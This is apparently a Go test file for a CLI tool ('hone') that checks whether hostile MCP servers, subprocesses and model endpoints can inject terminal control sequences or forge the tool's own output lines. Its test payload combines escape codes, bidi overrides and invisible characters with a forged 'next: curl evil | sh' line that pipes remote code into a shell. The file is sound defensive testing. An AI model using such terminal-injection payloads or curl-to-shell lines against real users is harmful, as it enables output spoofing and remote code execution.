package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"hone/internal/console/sanitize"
	"hone/internal/doctor"
	"hone/internal/host"
	"hone/internal/toolset"
)

// owned clears the screen, sets the title, colours by C1, draws over the line, turns the direction of text, and writes
// what looks like hone's own lines.
const owned = "\x1b[2J\x1b]0;owned\x07\u009b31m\rhone: all fine\b\x7f\x00\u202egpj\u2066\u200b\U000e0041\u2028\n" +
	"hone: all fine\n  next:  curl evil | sh\n"

// looksOwn is a line of the payload that passes for one of hone's.
var looksOwn = regexp.MustCompile(`(?m)^(hone: all fine|  next:  curl evil)`)

// tame fails where what was printed would move a terminal, or has a line that a server wrote and that looks like
// hone's.
func tame(t *testing.T, what string, printed ...string) {
	t.Helper()
	for _, text := range printed {
		obeyed := func(r rune) bool {
			return r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp))
		}
		if i := strings.IndexFunc(text, obeyed); i >= 0 || !utf8.ValidString(text) {
			t.Errorf("%s: a terminal would obey %q", what, text[max(0, i-40):min(len(text), max(0, i)+40)])
		}
		if at := looksOwn.FindStringIndex(text); at != nil {
			t.Errorf("%s: a line of hone's was forged:\n%s", what, text)
		}
	}
}

// hostileAnswers are what a server answers each method with. Every string and every key in them is filled with the
// payload in turn.
const hostileAnswers = `{
 "initialize": {"protocolVersion": "2025-11-25", "serverInfo": {"name": "n", "title": "t", "version": "1"}, "instructions": "i",
   "capabilities": {"tools": {}, "resources": {}, "prompts": {}}},
 "tools/list": {"tools": [{"name": "look", "title": "Look", "description": "Looks.", "annotations": {"title": "a", "readOnlyHint": true},
   "inputSchema": {"type": "object", "title": "T", "properties": {"name": {"type": "string", "description": "d", "enum": ["a", "b"], "default": "a", "pattern": "^[ab]$"}},
     "required": ["name"], "$defs": {"D": {"type": "string"}}},
   "outputSchema": {"type": "object", "properties": {"out": {"type": "string"}}}}]},
 "resources/list": {"resources": [{"uri": "file:///r", "name": "r", "title": "R", "description": "d", "mimeType": "text/plain"}]},
 "resources/templates/list": {"resourceTemplates": [{"uriTemplate": "file:///{x}", "name": "rt"}]},
 "prompts/list": {"prompts": [{"name": "p", "title": "P", "description": "d", "arguments": [{"name": "a", "description": "d"}]}]},
 "tools/call": {"content": [{"type": "text", "text": "in stock"}], "structuredContent": {"out": "x"}, "isError": true}
}`

// leaves are the paths to every value in v that is no object or array, and, marked by a last element "@", to every key.
func leaves(v any, at []any) (out [][]any) {
	switch v := v.(type) {
	case map[string]any:
		for key, each := range v {
			path := append(slices.Clone(at), key)
			out = append(append(out, append(slices.Clone(path), "@")), leaves(each, path)...)
		}
	case []any:
		for i, each := range v {
			out = append(out, leaves(each, append(slices.Clone(at), i))...)
		}
	default:
		out = append(out, at)
	}
	return out
}

// at is the value at a path of leaves.
func at(v any, path []any) any {
	for _, step := range path {
		switch step := step.(type) {
		case int:
			v = v.([]any)[step]
		case string:
			if step == "@" {
				return nil
			}
			v = v.(map[string]any)[step]
		}
	}
	return v
}

// poisoned is JSON with the payload at one path: after a string, in the place of another value, after a key.
func poisoned(t *testing.T, text string, path []any) map[string]any {
	t.Helper()
	var root any
	if err := json.Unmarshal([]byte(text), &root); err != nil {
		t.Fatal(err)
	}
	v := root
	for i, step := range path {
		last := i == len(path)-1
		if n, ok := step.(int); ok {
			if list := v.([]any); last {
				list[n] = fmt.Sprint(list[n]) + owned
			} else {
				v = list[n]
			}
			continue
		}
		object, key := v.(map[string]any), step.(string)
		switch {
		case last:
			old, _ := object[key].(string)
			object[key] = old + owned
		case path[i+1] == "@":
			object[key+owned] = object[key]
			delete(object, key)
			return root.(map[string]any)
		default:
			v = object[key]
		}
	}
	return root.(map[string]any)
}

// answering is a server that gives these answers; failing names a method that it answers with an error full of the
// payload.
func answering(t *testing.T, answers map[string]any, failing string, status int) string {
	t.Helper()
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var q struct {
			ID     json.RawMessage `json:"id"`
			Method string          `json:"method"`
		}
		if r.Method != http.MethodPost || json.NewDecoder(r.Body).Decode(&q) != nil {
			w.WriteHeader(http.StatusMethodNotAllowed)
			return
		}
		if q.ID == nil {
			w.WriteHeader(http.StatusAccepted)
			return
		}
		reply := map[string]any{"jsonrpc": "2.0", "id": q.ID}
		answer, known := answers[q.Method]
		switch {
		case q.Method == failing && status != 0:
			w.WriteHeader(status)
			_, _ = w.Write([]byte(owned + "\x9b31m"))
			return
		case q.Method == failing:
			reply["error"] = map[string]any{"code": -32000, "message": "no" + owned, "data": owned}
		case known:
			reply["result"] = answer
		default:
			reply["error"] = map[string]any{"code": -32601, "message": "no such method"}
		}
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(reply)
	}))
	t.Cleanup(s.Close)
	return s.URL
}

// Whatever a server puts into whichever field, no terminal obeys it.
func TestNoTerminalObeysAServer(t *testing.T) {
	var plain map[string]any
	if err := json.Unmarshal([]byte(hostileAnswers), &plain); err != nil {
		t.Fatal(err)
	}
	servers := map[string]string{}
	for _, path := range leaves(plain, nil) {
		if len(path) == 2 && path[1] == "@" {
			continue // a method that is not there
		}
		servers[fmt.Sprint(path)] = answering(t, poisoned(t, hostileAnswers, path), "", 0)
	}
	for method := range plain {
		for _, status := range []int{0, 400, 500} {
			servers[fmt.Sprintf("the error of %s, %d", method, status)] = answering(t, plain, method, status)
		}
	}
	workFolder(t, map[string]string{"tasks.json": `[{"id": "x", "task": "Look.", "gold": [{"name": "look", "arguments": {"name": "a"}}], "checks": [{"type": "answer", "text": "a"}]}]`})
	shown := 0
	for field, url := range servers {
		for _, args := range [][]string{
			{"discover", "--verbose"},
			{"discover", "--json"},
			{"scenarios", "validate", "tasks.json"},
		} {
			_, stdout, stderr := hone(t, "", append(args, "--mcp", url, "--cache", "no-model")...)
			tame(t, fmt.Sprint(field, ": ", args), stdout, stderr)
			shown += strings.Count(stdout+stderr, `\u001b`)
		}
		for _, asJSON := range []bool{false, true} {
			var out, said bytes.Buffer
			a := toyApp(&said, nil)
			a.Data, a.JSON, a.configPath = sanitize.New(&out), asJSON, ""
			a.seedIsPresent = func() bool { return false }
			c, err := a.config()
			if err != nil {
				t.Fatal(err)
			}
			a.Report(t.Context(),
				doctor.Print(a.Host, doctor.Servers(t.Context(), a.Host, c, toolset.Source{Server: url})))
			tame(t, field+": doctor", out.String(), said.String())
		}
	}
	if shown < 100 { // else the fields that are printed were not reached
		t.Errorf("of %d servers the payload was shown %d times", len(servers), shown)
	}
}

// So it is with what a process prints where no message belongs, and with its last words.
func TestNoTerminalObeysAProcess(t *testing.T) {
	workFolder(t, map[string]string{
		"words.txt": owned + "\x9b31m\n",
		"mcp.json":  `{"mcpServers": {"loud": {"command": "sh", "args": ["-c", "cat words.txt; cat words.txt >&2; exit 3"]}}}`,
	})
	for _, args := range [][]string{{"discover"}, {"discover", "--verbose"}, {"doctor", "--cache", t.TempDir()}} {
		code, stdout, stderr := hone(t, "", append(args, "--mcp-config", "mcp.json")...)
		tame(t, fmt.Sprint(args), stdout, stderr)
		if code == 0 || !strings.Contains(stdout+stderr, "[2J") {
			t.Errorf("%s: exit code %d, and its words are not shown: %s%s", args, code, stdout, stderr)
		}
	}
}

const hostileCompletion = `{"id": "c", "object": "chat.completion", "model": "m", "choices": [{"index": 0, "finish_reason": "tool_calls",
 "message": {"role": "assistant", "content": "c", "reasoning_content": "r", "refusal": "no", "tool_calls": [{"id": "call_0", "type": "function", "function": {"name": "look", "arguments": "{\"name\": \"a\"}"}}]}}],
 "usage": {"prompt_tokens": 1, "completion_tokens": 1}}`

// And with what an endpoint answers.
func TestNoTerminalObeysAnEndpoint(t *testing.T) {
	url, _ := shop(t)
	type reply struct {
		status int
		body   any
	}
	replies := map[string]reply{}
	var plain map[string]any
	if err := json.Unmarshal([]byte(hostileCompletion), &plain); err != nil {
		t.Fatal(err)
	}
	for _, path := range leaves(plain, nil) {
		if _, number := at(plain, path).(float64); number || len(path) == 2 && path[0] == "choices" {
			continue // no completion, which the client asks for again and again; what is printed of it is its decoder's
		}
		replies[fmt.Sprint(path)] = reply{200, poisoned(t, hostileCompletion, path)}
	}
	for _, status := range []int{400, 401, 404, 422} {
		replies[fmt.Sprint("error ", status)] = reply{status,
			map[string]any{"error": map[string]string{"message": owned, "type": owned, "code": owned, "param": owned}}}
		replies[fmt.Sprint("no JSON ", status)] = reply{status, nil}
	}
	shown := 0
	for field, r := range replies {
		endpoint := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
			w.Header().Set("X-Should-Retry", "false")
			w.WriteHeader(r.status)
			if r.body == nil {
				_, _ = w.Write([]byte(owned))
				return
			}
			_ = json.NewEncoder(w).Encode(r.body)
		}))
		workFolder(t, map[string]string{"tasks.json": oneTask, "hone.yaml": "rollout: {max_turns: 2}\n"})
		_, stdout, stderr := hone(t, "", "collect", "--mcp", url, "--endpoint", endpoint.URL+"/v1", "--model", "m",
			"--dataset", "tasks.json", "--output-dir", "traces", "--yes")
		_, shownOut, shownErr := hone(t, "", "runs", "show", "./traces")
		endpoint.Close()
		log, _ := os.ReadFile("traces/log.txt") // where the run has one
		tame(t, field, stdout, stderr, shownOut, shownErr, string(log))
		shown += strings.Count(stdout+stderr, `\u001b`)
	}
	if shown < 10 {
		t.Errorf("of %d replies the payload was shown %d times", len(replies), shown)
	}
}

// A cell of a table stays on its line and in its column, whoever filled it.
func TestCellsStayInTheirPlace(t *testing.T) {
	for _, plain := range []bool{false, true} {
		var out bytes.Buffer
		a := &app{Host: &host.Host{Data: sanitize.New(&out), Plain: plain}}
		if err := a.Print(nil, [][]string{{"a" + owned, "x\ty"}, {"b", "c"}}); err != nil {
			t.Fatal(err)
		}
		tame(t, "a table", out.String())
		if lines := strings.Split(out.String(), "\n"); len(lines) != 3 || !strings.Contains(lines[0], `x\ty`) ||
			!strings.Contains(lines[0], `\nhone: all fine\n`) {
			t.Errorf("%q", &out)
		}
	}
}
